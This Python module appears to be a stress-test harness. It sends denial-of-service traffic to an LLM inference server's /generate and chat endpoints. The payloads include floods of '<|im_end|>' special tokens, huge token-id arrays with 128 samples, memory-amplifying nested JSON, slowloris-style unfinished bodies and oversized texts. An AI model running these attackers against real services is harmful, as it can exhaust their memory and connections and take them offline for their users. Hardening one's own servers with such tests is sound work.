"""Attackers of bench/hostile.py that need only HTTP: bodies, headers and connections. Each takes the server's URL and
an event, and attacks until the event is set."""
import contextlib
import json
import socket
import threading
import time

import crowd

MIB = 1 << 20


def send_and_forget(url, data, stopped):
    """Sends one request and waits for the response or the end of the attack."""
    with contextlib.suppress(OSError), crowd.connect(url) as client:
        client.settimeout(0.5)
        view = memoryview(data)
        while view and not stopped.is_set():
            with contextlib.suppress(socket.timeout):
                view = view[client.send(view[:MIB]):]
        while not stopped.is_set():
            with contextlib.suppress(socket.timeout):
                client.recv(65536)
                return


def repeat(url, stopped, data, clients=4):
    def attack():
        while not stopped.is_set():
            send_and_forget(url, data, stopped)
            time.sleep(0.01)
    threads = [threading.Thread(target=attack) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def special_tokens(url, stopped):
    """Chats whose content is 4 MB of special tokens."""
    body = {"messages": [{"role": "user", "content": "<|im_end|>" * (4 * MIB // 10)}], "max_tokens": 1}
    repeat(url, stopped, crowd.post_bytes("/v1/chat/completions", body))


def many_samples(url, stopped):
    """12 MiB of token ids, 128 times."""
    body = b'{"sampling_params":{"n":128},"input_ids":[' + b"7," * (6 * MIB - 100) + b"7]}"
    repeat(url, stopped, b"POST /generate HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % len(body) + body, 1)


def many_values(url, stopped):
    """32 MB of JSON that takes twenty times as much memory when parsed."""
    body = b'{"input_ids":[' + b"[]," * (10 * MIB) + b"[]]}"
    repeat(url, stopped, b"POST /generate HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % len(body) + body, 2)


def held(url, stopped, length, sent, count=40):
    """Requests that announce `length` bytes, send `sent` of them and stop."""
    head = b"POST /generate HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % length
    threads = [threading.Thread(target=send_and_forget, args=(url, head + b" " * sent, stopped)) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def unfinished(url, stopped):
    """40 bodies of 32 MiB whose last byte is missing."""
    held(url, stopped, 32 * MIB, 32 * MIB - 1)


def announced(url, stopped):
    """1000 headers with a Content-Length of 32 MiB."""
    held(url, stopped, 32 * MIB, 0, 1000)


def long_text(url, stopped):
    """Texts of 8 MiB, too long for any context."""
    body = json.dumps({"text": "a.b " * (2 * MIB)}).encode()
    repeat(url, stopped, b"POST /generate HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % len(body) + body, 2)


ATTACKERS = {
    "chats of 4 MB of special tokens": special_tokens,
    "12 MiB of ids x 128": many_samples,
    "32 MB of empty arrays": many_values,
    "40 unfinished bodies": unfinished,
    "1000 announced bodies": announced,
    "texts of 8 MiB": long_text,
}
